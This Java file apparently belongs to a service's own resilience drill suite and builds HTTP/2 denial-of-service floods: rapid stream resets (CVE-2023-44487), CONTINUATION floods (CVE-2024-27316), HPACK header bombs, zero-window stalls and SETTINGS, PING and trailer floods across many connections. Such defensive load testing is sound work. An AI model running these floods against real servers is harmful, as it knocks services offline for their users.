package florin.drill;

import static java.nio.charset.StandardCharsets.US_ASCII;

import florin.testing.Http2Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;

/** Sends HTTP/2 frames that cost the service more than the client (RFC 9113, section 10.5). */
final class HostileFrames {
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int UNKNOWN = 99;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final byte CANCEL = 8;

  /** The number of frames on a connection, many times the limit. */
  private static final int FRAMES = 6_000;

  private static final int BATCH = 100;
  static final int CONNECTIONS = 16;
  private static final int STREAMS = 32;
  private static final int WIDE = 1 << 20;

  private HostileFrames() {}

  /** Writes the nth frames of a connection. */
  private interface Frames {
    void put(Http2Wire wire, int n);
  }

  /** Expects that the service ends each connection during or soon after the frames. */
  private static void flood(Attackers attackers, Frames frames) throws Exception {
    attackers.all(
        CONNECTIONS,
        _ -> {
          try (Http2Wire wire = attackers.wire(WIDE)) {
            send(wire, frames);
            while (wire.read() != null) {
              // ignores the frames until the connection ends
            }
          }
        });
  }

  /**
   * Expects that the service either ends each connection, or responds to a request after the
   * frames.
   */
  private static void outlast(Attackers attackers, Frames frames) throws Exception {
    attackers.all(
        CONNECTIONS,
        _ -> {
          Http2Wire wire = attackers.wire(WIDE);
          send(wire, frames);
          wire.request(2 * FRAMES + 1, true, "GET", "/v2/nothing").flush();
          attackers.count(wire.readStatus());
        });
  }

  private static void send(Http2Wire wire, Frames frames) throws IOException {
    for (int n = 0; n < FRAMES; n++) {
      frames.put(wire, n);
      if (n % BATCH == 0) {
        wire.flush();
      }
    }
    wire.flush();
  }

  /** Sends requests and resets them (CVE-2023-44487). */
  static void resets(Attackers attackers) throws Exception {
    outlast(
        attackers,
        (wire, n) -> {
          wire.request(2 * n + 1, true, "GET", "/v2/nothing");
          wire.frame(RST_STREAM, 0, 2 * n + 1, new byte[] {0, 0, 0, CANCEL});
        });
  }

  /** Sends invalid requests, so that the service resets them. */
  static void provokedResets(Attackers attackers) throws Exception {
    outlast(
        attackers,
        (wire, n) -> {
          wire.request(2 * n + 1, false, "GET", "/v2/nothing");
          wire.frame(WINDOW_UPDATE, 0, 2 * n + 1, new byte[4]);
        });
  }

  static void settings(Attackers attackers) throws Exception {
    flood(attackers, (wire, _) -> wire.frame(SETTINGS, 0, 0, new byte[0]));
  }

  static void settingsOfTables(Attackers attackers) throws Exception {
    byte[] hugeTable = ByteBuffer.allocate(6).putShort((short) 1).putInt(Integer.MAX_VALUE).array();
    flood(attackers, (wire, _) -> wire.frame(SETTINGS, 0, 0, hugeTable));
  }

  static void pings(Attackers attackers) throws Exception {
    flood(attackers, (wire, _) -> wire.frame(PING, 0, 0, new byte[8]));
  }

  static void priorities(Attackers attackers) throws Exception {
    flood(attackers, (wire, n) -> wire.frame(PRIORITY, 0, 2 * n + 3, new byte[] {0, 0, 0, 1, 16}));
  }

  static void windowUpdates(Attackers attackers) throws Exception {
    outlast(attackers, (wire, _) -> wire.window(0, 1));
  }

  static void unknownFrames(Attackers attackers) throws Exception {
    flood(attackers, (wire, _) -> wire.frame(UNKNOWN, 0, 0, new byte[16]));
  }

  static void emptyData(Attackers attackers) throws Exception {
    flood(
        attackers,
        (wire, n) -> {
          if (n == 0) {
            wire.request(1, false, "POST", "/dashboard/sign-in");
          }
          wire.frame(DATA, 0, 1, new byte[0]);
        });
  }

  /** Sends CONTINUATION frames (CVE-2024-27316). */
  static void continuations(Attackers attackers) throws Exception {
    byte[] field = {0, 1, 'a', 1, 'b'};
    flood(
        attackers,
        (wire, n) -> {
          if (n == 0) {
            wire.frame(HEADERS, END_STREAM, 1, new byte[0]);
          }
          wire.frame(CONTINUATION, 0, 1, field);
        });
  }

  /** References one field of 3,900 bytes 4,000 times: 4 KB on the wire expand to 15 MB. */
  static void headerBombs(Attackers attackers) throws Exception {
    var block = new ByteArrayOutputStream();
    block.writeBytes(new byte[] {0x40, 1, 'a', 127, (byte) (3773 % 128 | 128), 3773 / 128});
    block.writeBytes("b".repeat(3900).getBytes(US_ASCII));
    byte[] indexed = new byte[4000];
    Arrays.fill(indexed, (byte) (0x80 | 62));
    block.writeBytes(indexed);
    attackers.all(
        CONNECTIONS,
        _ -> {
          Http2Wire wire = attackers.wire(WIDE);
          for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
            wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
          }
          wire.flush();
          attackers.count(wire.readStatus());
        });
  }

  /** Sends requests with a window of zero, so that the service can't write a response. */
  static void zeroWindows(Attackers attackers, String key) throws Exception {
    attackers.all(
        4 * CONNECTIONS,
        n -> {
          Http2Wire wire = attackers.wire(0);
          for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
            if (n % 2 == 0) {
              wire.request(stream, true, "GET", "/v2/nothing");
            } else {
              wire.request(stream, true, "GET", LARGE_LIST, "authorization", "Bearer " + key);
            }
          }
          wire.flush();
          attackers.count(wire.readStatus());
        });
  }

  static final String LARGE_LIST = "/v2/customers?limit=100";

  /** Opens more streams than allowed, each with a body in frames of one byte. */
  static void streamsOfSmallFrames(Attackers attackers, String key) throws Exception {
    attackers.all(
        CONNECTIONS,
        _ -> {
          Http2Wire wire = attackers.wire(WIDE);
          for (int stream = 1; stream < 4 * STREAMS; stream += 2) {
            wire.request(
                stream,
                false,
                "POST",
                "/v2/payment_methods",
                "authorization",
                "Bearer " + key,
                "content-type",
                "application/json");
          }
          for (int n = 0; n < FRAMES; n++) {
            wire.data(2 * (n % STREAMS) + 1, false, new byte[] {' '});
          }
          wire.flush();
          attackers.count(wire.readStatus());
        });
  }

  /** Sends a full frame of each of many header blocks that never end. */
  static void unendedHeads(Attackers attackers) throws Exception {
    byte[] part = new byte[16 << 10];
    attackers.all(
        4 * CONNECTIONS,
        _ -> {
          Http2Wire wire = attackers.wire(WIDE);
          wire.frame(HEADERS, END_STREAM, 1, part);
          wire.flush();
        });
  }

  /** Sends as many trailer fields after a body as fit. */
  static void trailers(Attackers attackers) throws Exception {
    String[] fields = new String[2 * 2000];
    Arrays.fill(fields, "a");
    attackers.all(
        CONNECTIONS,
        _ -> {
          Http2Wire wire = attackers.wire(WIDE);
          for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
            wire.request(stream, false, "POST", "/dashboard/sign-in").trailers(stream, fields);
          }
          wire.flush();
          attackers.count(wire.readStatus());
        });
  }
}
